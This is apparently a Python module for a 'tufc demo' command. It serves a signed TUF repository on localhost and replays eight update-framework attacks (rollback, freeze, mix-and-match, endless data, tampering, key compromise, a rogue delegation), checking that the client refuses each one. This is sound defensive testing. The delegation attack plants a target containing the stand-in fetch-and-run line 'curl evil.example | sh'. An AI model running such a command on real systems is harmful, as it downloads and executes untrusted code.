"""``tufc demo``: TUF's attacks, replayed against a real tufc client, offline.

It builds a signed repository in a temporary folder (tufc's own repository
writer, fresh Ed25519 keys), serves it on 127.0.0.1, sets up a client that
trusts its first root, refreshes and downloads a target, and then plays the
attacker: rollback, freeze, mix-and-match, endless data, a tampered target,
a root key stolen below the threshold, a delegated role signing outside its
paths.  Every attack must be refused by the check meant for it, and every
honest step must succeed; the exit status says whether that held.
"""

from __future__ import annotations

import hashlib
import http.server
import os
import re
import sys
import tempfile
import textwrap
import threading
import time
import urllib.parse
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from typing import Callable

from ._repository import Repository

WIDTH = 78
_LONG_HEX = re.compile(r"[0-9a-f]{32,}")
ENDLESS_CAP = 64 * 1024 * 1024  # the server gives up here even if nobody stops it


# --- the HTTP server ------------------------------------------------------------


class DemoServer:
    """Serves a folder on 127.0.0.1; the attacker swaps responses in memory.

    ``overrides[path] = bytes`` replaces a file; ``endless`` holds paths
    served as their bytes followed by zeros without end.  ``requests`` logs
    every path asked for.
    """

    def __init__(self, folder: str):
        self.folder = os.path.realpath(folder)
        self.overrides: dict[str, bytes] = {}
        self.endless: set[str] = set()
        self.requests: list[str] = []
        self._lock = threading.Lock()
        self._httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
        self._httpd.daemon_threads = True
        self._thread = threading.Thread(
            target=self._httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )

    @property
    def url(self) -> str:
        host, port = self._httpd.server_address[:2]
        return f"http://{host}:{port}/"

    def start(self) -> DemoServer:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()
        self._thread.join(5)

    def reset(self) -> None:
        """The attacker leaves: serve the genuine files again."""
        self.overrides.clear()
        self.endless.clear()

    def take_requests(self) -> list[str]:
        with self._lock:
            taken, self.requests = self.requests, []
        return taken

    def lookup(self, path: str) -> bytes | None:
        if path in self.overrides:
            return self.overrides[path]
        full = os.path.realpath(os.path.join(self.folder, *path.split("/")))
        if not full.startswith(self.folder + os.sep) or not os.path.isfile(full):
            return None
        with open(full, "rb") as f:
            return f.read()


def _handler(server: DemoServer) -> type:
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"

        def log_message(self, *args) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            path = urllib.parse.unquote(urllib.parse.urlsplit(self.path).path).lstrip("/")
            with server._lock:
                server.requests.append(path)
            data = server.lookup(path)
            try:
                if data is None:
                    self.send_error(404)
                elif path in server.endless:
                    self._send_endless(data)
                else:
                    self.send_response(200)
                    self.send_header("Content-Length", str(len(data)))
                    self.end_headers()
                    self.wfile.write(data)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the client hung up: exactly what it should do

        def _send_endless(self, data: bytes) -> None:
            self.send_response(200)
            self.end_headers()  # no Content-Length: "the rest is coming"
            self.wfile.write(data)
            sent, filler = len(data), b"\0" * 65536
            while sent < ENDLESS_CAP:
                self.wfile.write(filler)
                sent += len(filler)

    return Handler


# --- the demo -------------------------------------------------------------------


@dataclass
class Step:
    kind: str  # "honest" or "attack"
    title: str
    ok: bool
    seconds: float


class Refused(Exception):
    """An attack stopped without an exception (e.g. a target not found)."""


class Demo:
    """One repository, one client, a sequence of honest steps and attacks."""

    def __init__(self, base: str, out=None, verbose: bool = False):
        self.out = out or sys.stdout
        self.verbose = verbose
        self.repo_dir = os.path.join(base, "repository")
        self.client_dir = os.path.join(base, "client")
        self.metadata_dir = os.path.join(self.client_dir, "metadata")
        self.target_dir = os.path.join(self.client_dir, "targets")
        self.steps: list[Step] = []
        self.server: DemoServer | None = None
        self.repo: Repository | None = None

    # --- printing -----------------------------------------------------------

    def say(self, text: str = "", indent: int = 0, hang: int = 0) -> None:
        """Print wrapped text; long hex digests shortened for reading."""
        if not text:
            print(file=self.out)
            return
        text = _LONG_HEX.sub(lambda m: m.group(0)[:12] + "...", text)
        lines = textwrap.wrap(
            text, WIDTH, initial_indent=" " * indent,
            subsequent_indent=" " * (indent + hang), break_on_hyphens=False,
        )
        for line in lines:
            print(line, file=self.out)

    # --- the client -------------------------------------------------------------

    def updater(self, reference_time: datetime | None = None):
        """A fresh Updater over the client's folder, like one CLI run."""
        from .config import UpdaterConfig
        from .updater import Updater

        config = UpdaterConfig()
        if reference_time is not None:
            config.reference_time = reference_time
        return Updater(
            self.metadata_dir,
            self.server.url + "metadata/",
            self.target_dir,
            self.server.url + "targets/",
            config=config,
            bootstrap=None,
        )

    # --- bookkeeping ------------------------------------------------------------

    def honest(self, title: str, action: Callable[[], str]) -> bool:
        start = time.perf_counter()
        try:
            detail = action()
            ok = True
        except Exception as exc:  # an honest step must not fail: report it
            from .cli import explain

            detail = f"FAILED: {explain(exc)}"
            ok = False
        seconds = time.perf_counter() - start
        self.steps.append(Step("honest", title, ok, seconds))
        mark = "[ ok ]" if ok else "[FAIL]"
        self.say(f"{mark} {title}: {detail}", indent=2, hang=7)
        if self.verbose or not ok:
            for path in self.server.take_requests() if self.server else []:
                self.say(f"GET /{path}", indent=9)
        return ok

    def attack(
        self,
        number: int,
        title: str,
        story: str,
        expected: tuple[str, ...],
        check: str,
        action: Callable[[], object],
    ) -> bool:
        self.say()
        self.say(f"{number}. {title}", indent=2)
        self.say(story, indent=5)
        self.server.take_requests()
        start = time.perf_counter()
        try:
            result = action()
            caught = None
        except Exception as exc:
            result, caught = None, exc
        finally:
            self.server.reset()
        seconds = time.perf_counter() - start

        from .cli import explain

        if caught is None:
            ok = False
            said = f"tufc accepted it ({result!r})"
        elif isinstance(caught, Refused):
            ok = "Refused" in expected
            said = str(caught)
        else:
            names = {cls.__name__ for cls in type(caught).__mro__}
            ok = bool(names.intersection(expected))
            said = f"{type(caught).__name__}: {explain(caught)}"
        self.steps.append(Step("attack", title, ok, seconds))
        if ok:
            self.say(f"[REFUSED] by the {check}.", indent=5)
        else:
            self.say(f"[NOT REFUSED AS EXPECTED] expected the {check} "
                     f"({', '.join(expected)}).", indent=5)
        self.say(f"tufc said: {said}", indent=5)
        if self.verbose:
            for path in self.server.take_requests():
                self.say(f"GET /{path}", indent=9)
        return ok

    # --- the story ------------------------------------------------------------

    def run(self) -> int:
        from . import BACKEND

        begin = time.perf_counter()
        self.say("tufc demo: The Update Framework under attack, on this machine, offline.")
        self.say()
        self.say("Setting up")
        start = time.perf_counter()
        self.repo = repo = Repository(self.repo_dir, root_keys=3, root_threshold=2)
        repo.delegate("projects", ["projects/*"])
        self.app = _payload(b"app-1.0", 20000)
        repo.add_target("README.txt", b"Welcome to the demo repository.\n")
        repo.add_target(
            "projects/app-1.0.tar.gz", self.app, role="projects",
            custom={"description": "the application, version 1.0"},
        )
        repo.publish()
        self.server = DemoServer(self.repo_dir).start()
        setup_seconds = time.perf_counter() - start
        self.steps.append(Step("setup", "generate keys, sign, serve", True, setup_seconds))
        self.say(f"repository  {self.repo_dir}", indent=2)
        self.say(f"served at   {self.server.url} (127.0.0.1 only)", indent=2)
        self.say("keys        root: 3 Ed25519 keys, any 2 must sign; timestamp, "
                 "snapshot, targets: 1 key each", indent=2, hang=12)
        self.say("delegation  role 'projects' may sign only for projects/*", indent=2)
        self.say(f"client      {self.client_dir}  (tufc, {BACKEND} core)", indent=2)
        try:
            self._story()
        finally:
            self.server.stop()
        total = time.perf_counter() - begin
        return self._summary(total)

    def _story(self) -> None:
        repo, server = self.repo, self.server
        self.say()
        self.say("Honest use")
        ok = self.honest("trust the root shipped with the app", self._trust_root)
        ok = self.honest("refresh", self._refresh) and ok
        ok = self.honest("download projects/app-1.0.tar.gz",
                         lambda: self._download("projects/app-1.0.tar.gz")) and ok
        self.honest("download it again", lambda: self._download("projects/app-1.0.tar.gz"))
        if not ok:
            self.say("The honest steps failed; attacks would prove nothing.", indent=2)
            return

        self.say()
        self.say("Attacks (each against the same client; the server is honest again after each)")

        # 1. rollback
        old_timestamp = repo.current("metadata/timestamp.json")
        repo.renew_timestamp()
        self.honest("the repository renews its timestamp (v2); client refresh",
                    self._refresh)

        def rollback():
            server.overrides["metadata/timestamp.json"] = old_timestamp
            self.updater().refresh()

        self.attack(
            1, "Rollback attack",
            "A mirror serves yesterday's timestamp (version 1; the client already "
            "trusts version 2), hoping the client goes back to older files with "
            "known holes.",
            ("BadVersionNumberError",), "rollback check (versions never go down)",
            rollback,
        )

        # 2. freeze
        later = datetime.now(timezone.utc) + timedelta(days=2)
        self.attack(
            2, "Freeze attack",
            "Two days later, a mirror still serves the last timestamp it saw, "
            "so the client never learns of new releases. The client checks "
            f"expiry as of {later:%Y-%m-%d %H:%M} UTC.",
            ("ExpiredMetadataError",), "expiry check (timestamps live 1 day)",
            lambda: self.updater(reference_time=later).refresh(),
        )

        # 3. mix and match
        old_targets = repo.current("metadata/1.targets.json")
        repo.add_target("README.txt", b"Welcome to the demo repository, release 2.\n")
        repo.publish()

        def mix_and_match():
            server.overrides["metadata/2.targets.json"] = old_targets
            self.updater().refresh()

        self.attack(
            3, "Mix-and-match attack",
            "The repository publishes targets version 2. A mirror serves the "
            "new snapshot but the old targets file in its place, to combine "
            "metadata that were never current together.",
            ("LengthOrHashMismatchError", "BadVersionNumberError"),
            "snapshot check (the snapshot pins each targets file's version, "
            "length and hash)",
            mix_and_match,
        )
        self.honest("the genuine files: client refresh", self._refresh)

        # 4. endless data: metadata
        def endless_timestamp():
            server.endless.add("metadata/timestamp.json")
            self.updater().refresh()

        self.attack(
            4, "Endless data attack (metadata)",
            "A mirror answers timestamp.json with a stream that never ends, to "
            "fill the client's disk or memory.",
            ("DownloadLengthMismatchError",),
            "length limit (a timestamp may be at most 16384 bytes)",
            endless_timestamp,
        )

        # 5. endless data: target
        readme = repo.target_file_name("README.txt")

        def endless_target():
            server.endless.add(readme)
            return self._download("README.txt")

        self.attack(
            5, "Endless data attack (target)",
            "A mirror answers README.txt with a stream that never ends.",
            ("DownloadLengthMismatchError",),
            "length check (the signed metadata says how long the file is)",
            endless_target,
        )

        # 6. tampered target
        def tampered():
            genuine = repo.target_data["README.txt"]
            server.overrides[readme] = genuine.replace(b"Welcome", b"Malware")
            return self._download("README.txt")

        self.attack(
            6, "Arbitrary software installation",
            "A mirror serves a tampered README.txt with the right length.",
            ("LengthOrHashMismatchError",),
            "hash check (the signed sha256 does not match; nothing is saved)",
            tampered,
        )

        # 7. root key compromised below threshold
        def stolen_root_key():
            server.overrides["metadata/2.root.json"] = self._forged_root()
            self.updater().refresh()

        self.attack(
            7, "Key compromise below the threshold",
            "An attacker stole ONE of the three root keys (2 are required) and "
            "publishes a new root that hands every role to keys of its own.",
            ("UnsignedMetadataError",),
            "signature threshold check (the new root needs 2 signatures from "
            "the keys of the trusted root)",
            stolen_root_key,
        )

        # 8. delegated role signs outside its paths
        repo.add_target("tools/install.sh", b"curl evil.example | sh\n", role="projects")
        repo.publish()

        def outside_paths():
            updater = self.updater()
            updater.refresh()
            info = updater.get_targetinfo("tools/install.sh")
            if info is None:
                raise Refused(
                    "tools/install.sh: not found (no role trusted for that path lists it)"
                )
            return info

        self.attack(
            8, "Compromised delegated role",
            "The 'projects' key is stolen; the attacker signs tools/install.sh "
            "with it and the repository publishes that as usual.",
            ("Refused",),
            "delegation path check ('projects' is trusted only for projects/*)",
            outside_paths,
        )
        repo.remove_target("tools/install.sh", role="projects")

        # an honest release still works
        self.say()
        self.say("After the attacks")
        self.app2 = _payload(b"app-1.1", 24000)
        repo.add_target("projects/app-1.1.tar.gz", self.app2, role="projects")
        repo.publish()
        self.honest("the repository releases app 1.1; client refresh", self._refresh)
        self.honest("download projects/app-1.1.tar.gz",
                    lambda: self._download("projects/app-1.1.tar.gz"))

    # --- honest actions ---------------------------------------------------------

    def _trust_root(self) -> str:
        from .cli import RootInfo, _atomic_write

        data = self.repo.current("metadata/1.root.json")
        info = RootInfo(data)
        info.check_self_signed()
        _atomic_write(os.path.join(self.metadata_dir, "root.json"), data)
        role = info.root.roles["root"]
        signed = len(info.signed_by(role.keyids, role.threshold).verified)
        return (f"root v{info.root.version}, signed by {signed} of its "
                f"{len(role.keyids)} root keys (threshold {role.threshold})")

    def _refresh(self) -> str:
        self.server.take_requests()
        self.updater().refresh()
        fetched = [p.rpartition("/")[2] for p in self.server.take_requests()]
        if self.verbose:
            for name in fetched:
                self.say(f"GET {name}", indent=9)
        return f"verified; fetched {', '.join(fetched)}"

    def _download(self, path: str) -> str:
        updater = self.updater()
        info = updater.get_targetinfo(path)
        if info is None:
            raise LookupError(f"{path}: not found")
        cached = updater.find_cached_target(info)
        if cached is not None:
            return "already here and verified: no download"
        updater.download_target(info)
        return f"{info.length} bytes, sha256 verified"

    def _forged_root(self) -> bytes:
        """Root v2 by an attacker holding one of the three root keys."""
        from .metadata import Metadata
        from .signer import Ed25519Signer

        stolen = self.repo.signers["root"][0]
        forged = Metadata.from_bytes(self.repo.current("metadata/1.root.json"))
        root = forged.signed
        attacker = [Ed25519Signer.generate() for _ in range(2)]
        for role_name, role in root.roles.items():
            for keyid in list(role.keyids):
                root.revoke_key(keyid, role_name)
            for signer in attacker:
                root.add_key(signer.public_key, role_name)
        root.version = 2
        forged.signatures.clear()
        for signer in [stolen, *attacker]:
            forged.sign(signer, append=True)
        return forged.to_bytes()

    # --- summary ----------------------------------------------------------------

    def _summary(self, total: float) -> int:
        attacks = [s for s in self.steps if s.kind == "attack"]
        honest = [s for s in self.steps if s.kind == "honest"]
        self.say()
        self.say("Timings")
        for step in self.steps:
            self.say(f"{step.title[:56]:56} {step.seconds * 1000:8.1f} ms", indent=2)
        self.say(f"{'total':56} {total * 1000:8.1f} ms", indent=2)
        self.say()
        refused = sum(s.ok for s in attacks)
        fine = sum(s.ok for s in honest)
        passed = refused == len(attacks) and fine == len(honest) and len(attacks) == 8
        verdict = "OK" if passed else "FAILED"
        self.say(f"{verdict}: {refused} of {len(attacks)} attacks refused, "
                 f"{fine} of {len(honest)} honest steps succeeded.")
        return 0 if passed else 1


def _payload(seed: bytes, size: int) -> bytes:
    """Deterministic bytes standing in for a release archive."""
    out = bytearray()
    block = seed
    while len(out) < size:
        block = hashlib.sha256(block).digest()
        out += block
    return bytes(out[:size])


def _no_proxy_for_localhost() -> None:
    # The demo talks to 127.0.0.1 only; a proxy from the environment must
    # not see (or break) that traffic.
    if any(os.environ.get(v) for v in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY")):
        for var in ("no_proxy", "NO_PROXY"):
            current = os.environ.get(var, "")
            os.environ[var] = ",".join(filter(None, [current, "127.0.0.1", "localhost"]))


def run_demo(verbose: bool = False, out=None) -> int:
    """Run the whole demo in a temporary folder; 0 only if every check held."""
    _no_proxy_for_localhost()
    with tempfile.TemporaryDirectory(prefix="tufc-demo-") as base:
        return Demo(base, out=out, verbose=verbose).run()
